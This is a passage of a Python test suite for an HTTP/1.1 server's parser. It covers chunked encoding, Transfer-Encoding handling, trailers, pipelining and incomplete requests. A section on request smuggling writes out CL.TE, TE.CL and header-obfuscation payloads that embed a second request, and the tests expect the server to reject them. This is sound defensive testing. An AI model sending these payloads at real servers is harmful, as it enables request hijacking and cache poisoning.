        closed(f"coding {repr_of(value)!r}", coding(value))
for value in (b"gzip", b"identity", b"deflate", b"compress", b"br", b"trailers", b"cow", b"xchunked", b"chunkedx", b"chunkedchunked", b"gzip, chunked", b"chunked, gzip", b"identity, chunked", b"chunked, identity", b"chunked,identity",
              b"cow, chunked", b"gzip, deflate, chunked", b"chunk", b"chunked-chunked", b"x-chunked", b"5", b"true"):
    closed(f"coding {value.decode()!r}", coding(value), 501)
closed("coding twice", coding(b"chunked\r\nTransfer-Encoding: chunked"))
closed("coding twice, other letters", coding(b"chunked\r\ntransfer-encoding: chunked"))
closed("unknown coding, then chunked", coding(b"cow\r\nTransfer-Encoding: chunked"), 501)
closed("chunked, then unknown coding", coding(b"chunked\r\nTransfer-Encoding: cow"), 501)
closed("chunked, then identity", coding(b"chunked\r\nTransfer-Encoding: identity"), 501)
closed("chunked, then an empty coding", coding(b"chunked\r\nTransfer-Encoding:"))
closed("coding in HTTP/1.0", chunked(b"0\r\n\r\n", version=b"HTTP/1.0"))
closed("coding in HTTP/1.0 that stays", coding(b"chunked\r\nConnection: keep-alive", version=b"HTTP/1.0"))
closed("unknown coding on GET", coding(b"gzip", method=b"GET", target=b"/health"), 501)
closed("unknown coding nowhere", coding(b"gzip", target=b"/nowhere"), 501)
kept("TE and Trailer mean nothing here", post(b"Transfer-Encoding: chunked\r\nTE: trailers, gzip\r\nTrailer: Content-Length\r\nConnection: TE\r\n", b"0\r\n\r\n"), 422)
kept("Transfer-Encoding2 is another field", sized(b"hello", b"Transfer-Encoding2: chunked\r\nXTransfer-Encoding: chunked\r\n"), 422)

# ---- both: the shapes of request smuggling ----

closed("CL.TE", post(b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\nG"))
closed("CL.TE with a request", post(b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % (5 + len(SMUGGLED)), b"0\r\n\r\n" + SMUGGLED))
closed("TE.CL", post(b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", b"%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n0\r\n\r\n"))
closed("TE.CL on GET", post(b"Transfer-Encoding: chunked\r\nContent-Length: 0\r\n", b"0\r\n\r\n", method=b"GET", target=b"/health"))
closed("CL.0 and chunked", post(b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", b"5\r\nhello\r\n0\r\n\r\n"))
closed("CL and TE: identity", post(b"Content-Length: 5\r\nTransfer-Encoding: identity\r\n", b"hello"))
closed("CL and TE: gzip", post(b"Content-Length: 5\r\nTransfer-Encoding: gzip\r\n", b"hello"))
closed("CL and an empty TE", post(b"Content-Length: 5\r\nTransfer-Encoding:\r\n", b"hello"))
closed("CL and TE in HTTP/1.0", post(b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", b"hello", version=b"HTTP/1.0"))
closed("invalid CL and TE", post(b"Content-Length: a\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n"))
closed("an empty CL and TE", post(b"Content-Length:\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n"))
closed("CL, TE behind a blank", post(b"Content-Length: 5\r\nTransfer-Encoding : chunked\r\n", b"0\r\n\r\n"))
closed("CL, TE behind a tab", post(b"Content-Length: 5\r\n\tTransfer-Encoding: chunked\r\n", b"0\r\n\r\n"))
closed("CL, TE behind LF", post(b"Content-Length: 5\r\nA: b\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n"))
closed("CL, TE behind CR", post(b"Content-Length: 5\r\nA: b\rTransfer-Encoding: chunked\r\n", b"0\r\n\r\n"))
closed("CL, TE behind NUL", post(b"Content-Length: 5\r\nA: b\x00Transfer-Encoding: chunked\r\n", b"0\r\n\r\n"))
closed("CL, TE without colon", post(b"Content-Length: 5\r\nTransfer-Encoding chunked\r\n", b"0\r\n\r\n"))
closed("CL, TE folded away", post(b"Content-Length: 5\r\nA: b\r\n Transfer-Encoding: chunked\r\n", b"0\r\n\r\n"))
closed("TE, CL behind a blank", post(b"Transfer-Encoding: chunked\r\nContent-Length : 5\r\n", b"0\r\n\r\n"))
kept("a body that is a request", sized(SMUGGLED), 422)
kept("a chunk that is a request", chunked(b"%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n0\r\n\r\n"), 422)
kept("a body that ends in a request line", sized(b"GET /health HTTP/1.1\r\nA: "), 422)
kept("a CRLF behind the body", sized(b"hello") + b"\r\n", 422)
closed("two CRLFs behind the body", sized(b"hello") + b"\r\n\r\n", 422, 400)
closed("an LF behind the body", sized(b"hello") + b"\n", 422, 400)

# ---- chunks ----

LAST = b"0\r\n\r\n"
kept("chunks", chunked(b"1\r\nh\r\n4\r\nello\r\n" + LAST), 422)
kept("many chunks", chunked(b"1\r\na\r\n" * 2000 + LAST), 422)
kept("a chunk in upper case", chunked(b"A\r\n0123456789\r\n" + LAST), 422)
kept("a chunk in lower case", chunked(b"a\r\n0123456789\r\n" + LAST), 422)
kept("a chunk of 16 digits", chunked(b"0000000000000005\r\nhello\r\n" + LAST), 422)
kept("a last chunk of many zeros", chunked(b"5\r\nhello\r\n0000000000000000\r\n\r\n"), 422)
kept("no chunk but the last", chunked(LAST), 422)
closed("a chunk of 17 digits", chunked(b"00000000000000005\r\nhello\r\n" + LAST))
closed("a last chunk of 17 zeros", chunked(b"00000000000000000\r\n\r\n"))
for size in (b"", b"g", b"G5", b"-1", b"-0", b"+5", b"0x5", b"0X5", b" 5", b"\t5", b"5 ", b"5\t", b"5\x0b", b"5\x00", b"\x005", b"5h", b"5,", b"5.0", b"5 5", b"5 ;a", b"'5'", b"\"5\"", b"$5", b"_5", b"5_", "٥".encode(), b"5\xa0",
             b"%35", b"5:", b"5/"):
    closed(f"chunk size {repr_of(size)!r}", chunked(size + b"\r\nhello\r\n" + LAST))
    if size not in (b"", b"\x005"):
        closed(f"last chunk size {repr_of(size.replace(b'5', b'0'))!r} from {repr_of(size)!r}", chunked(b"1\r\na\r\n" + size.replace(b"5", b"0").replace(b"1", b"0") + b"\r\n\r\n"))
for size in (b"4001", b"7fffffff", b"80000000", b"ffffffff", b"100000000", b"100000005", b"7fffffffffffffff", b"8000000000000000", b"ffffffffffffffff", b"fffffffffffffffe", b"10000000000000000", b"FFFFFFFFFFFFFFFFF"):
    closed(f"chunk size {size.decode()}", chunked(size + b"\r\nhello\r\n" + LAST), 413)
closed("chunk sizes that wrap around", chunked(b"5\r\nhello\r\nfffffffffffffffb\r\nhello"), 413)
cut("skipped chunk sizes that wrap around", chunked(b"5\r\nhello\r\nfffffffffffffffb\r\nhello", target=b"/nowhere"), 404)
closed("LF behind a size", chunked(b"5\nhello\r\n" + LAST))
closed("CR alone behind a size", chunked(b"5\rhello\r\n" + LAST))
closed("two CRs behind a size", chunked(b"5\r\r\nhello\r\n" + LAST))
closed("LF behind data", chunked(b"5\r\nhello\n" + LAST))
closed("CR alone behind data", chunked(b"5\r\nhello\r" + LAST))
closed("nothing behind data", chunked(b"5\r\nhello" + LAST))
closed("a short chunk", chunked(b"5\r\nhell\r\n" + LAST))
closed("a long chunk", chunked(b"5\r\nhello!\r\n" + LAST))
closed("two CRLFs behind data", chunked(b"5\r\nhello\r\n\r\n" + LAST))
closed("a CRLF in front of a size", chunked(b"\r\n5\r\nhello\r\n" + LAST))
closed("LF behind the last size", chunked(b"5\r\nhello\r\n0\n\r\n"))
closed("LF as the end", chunked(b"5\r\nhello\r\n0\r\n\n"))
closed("CR alone as the end", chunked(b"5\r\nhello\r\n0\r\n\rX"))
closed("a request instead of the end", chunked(b"5\r\nhello\r\n0\r\n" + SMUGGLED))
for extension in (b";", b";a", b";a=b", b";a=\"b\"", b";a=\"b;c\"", b";a;b;c", b";;", b"; a = b", b";\ta", b";a=\xff", b";a=\"", b";0", b";" + b"a" * 1023):
    kept(f"extension {repr_of(extension[:20])!r}", chunked(b"5" + extension + b"\r\nhello\r\n0" + extension + b"\r\n\r\n"), 422)
for extension in (b";a\nb", b";a\rb", b";a\x00b", b";a\x01", b";a\x7f", b";a=\"\r\n\"", b";a\r\r", b";" + b"a" * 1024, b" ;a", b"\t;a", b",a", b"=a"):
    closed(f"bad extension {repr_of(extension[:20])!r} of {len(extension)}", chunked(b"5" + extension + b"\r\nhello\r\n" + LAST))
kept("extensions of 16 KiB", chunked((b"1;" + b"a" * 1023 + b"\r\na\r\n") * 16 + LAST), 422)
closed("extensions over 16 KiB", chunked((b"1;" + b"a" * 1023 + b"\r\na\r\n") * 16 + b"1;\r\na\r\n" + LAST))
closed("extension without end", chunked(b"1;" + b"a" * 100000))
for trailer in (b"A: b", b"A:", b"Content-Length: 5", b"Transfer-Encoding: chunked", b"Host: b", b"Authorization: Bearer a", b"A: b\r\nA: c", b"A: \t\xff"):
    kept(f"trailer {repr_of(trailer)!r}", chunked(b"5\r\nhello\r\n0\r\n" + trailer + b"\r\n\r\n"), 422)
for trailer in (b"A", b"A : b", b" A: b", b"\tA: b", b": b", b"A: b\r\n c", b"A: b\nB: c", b"A: b\rB: c", b"A\x00: b", b"A: \x00", b"A: \x7f", b"A(: b", b"GET / HTTP/1.1", b"A: b\r"):
    closed(f"bad trailer {repr_of(trailer)!r}", chunked(b"5\r\nhello\r\n0\r\n" + trailer + b"\r\n\r\n"))
kept("100 trailers", chunked(b"0\r\n" + b"a:\r\n" * 100 + b"\r\n"), 422)
closed("101 trailers", chunked(b"0\r\n" + b"a:\r\n" * 101 + b"\r\n"), 431)
kept("trailers of 32768", chunked(b"0\r\nA: " + b"a" * (32768 - 5) + b"\r\n\r\n"), 422)
closed("trailers of 32769", chunked(b"0\r\nA: " + b"a" * (32769 - 5) + b"\r\n\r\n"), 431)
closed("trailers without end", chunked(b"0\r\n" + b"a" * 40000), 431)
cut("framing error in a skipped body", chunked(b"5\r\nhelloX\r\n" + LAST, target=b"/nowhere"), 404)
cut("framing error in a skipped trailer", chunked(b"0\r\nA b\r\n\r\n", target=b"/nowhere"), 404)

# ---- pipelines ----

MIXED = get() + sized(b"hello") + line(b"HEAD /health HTTP/1.1") + line(b"OPTIONS * HTTP/1.1") + chunked(b"5\r\nhello\r\n" + LAST) + get(target=b"/nowhere")
kept("64 requests", get() * 64, *[200] * 64)
kept("200 requests", get() * 200, *[200] * 200)
kept("500 requests nowhere", get(target=b"/n") * 500, *[404] * 500)
closed("64 requests, the 33rd broken", get() * 32 + b"GET /health HTTP/1.1\r\nHost: a\r\nHost: a\r\n\r\n" + get() * 31, *[200] * 32, 400)
closed("64 requests, the 33rd with LF", get() * 32 + b"GET /health HTTP/1.1\n\n" + get() * 31, *[200] * 32, 400)
closed("64 requests, the 33rd closes", get() * 32 + get(b"Connection: close\r\n") + get() * 31, *[200] * 33)
closed("64 requests, the 33rd in 1.0", get() * 32 + get(version=b"HTTP/1.0") + get() * 31, *[200] * 33)
closed("64 requests, the 33rd too long", get() * 32 + length(b"99999999") + get() * 31, *[200] * 32, 413)
kept("mixed requests", MIXED * 8, *[200, 422, 200, 204, 422, 404] * 8, heads=tuple(range(2, 48, 6)))
kept("CRLFs between requests", (get() + b"\r\n") * 8, *[200] * 8)
closed("broken behind a body", sized(b"hello") + b"\0", 422, 400)
kept("a body over its length", length(b"4") + get(), 422, 405)
kept("no credential, then a login", sized(b"hello", target=b"/api/v1/api-keys") + sized(b"hello"), 401, 422)
kept("two 100-continues", sized(b"hello", CONTINUE) * 2, 100, 422, 100, 422)

# ---- incomplete: nothing is answered ----

silent("nothing", b"")
silent("a CR", b"\r")
silent("a CRLF", b"\r\n")
silent("a method", b"GET")
silent("part of a version", b"GET /health HTTP/1.")
silent("a line", b"GET /health HTTP/1.1\r\n")
silent("half of a CRLF", b"GET /health HTTP/1.1\r\nHost: a\r")
silent("no empty line", b"GET /health HTTP/1.1\r\nHost: a\r\n")
silent("half of the end", b"GET /health HTTP/1.1\r\nHost: a\r\n\r")
silent("part of a body", length(b"5", b"hell"))
silent("no body", length(b"5", b""))
silent("part of a size", chunked(b"5"))
silent("part of a chunk", chunked(b"5\r\nhel"))
silent("half of a chunk's end", chunked(b"5\r\nhello\r"))
silent("no last chunk", chunked(b"5\r\nhello\r\n"))
silent("no end behind the last chunk", chunked(b"5\r\nhello\r\n0\r\n"))
silent("half of the last end", chunked(b"5\r\nhello\r\n0\r\n\r"))
silent("part of a trailer", chunked(b"5\r\nhello\r\n0\r\nA: b"))
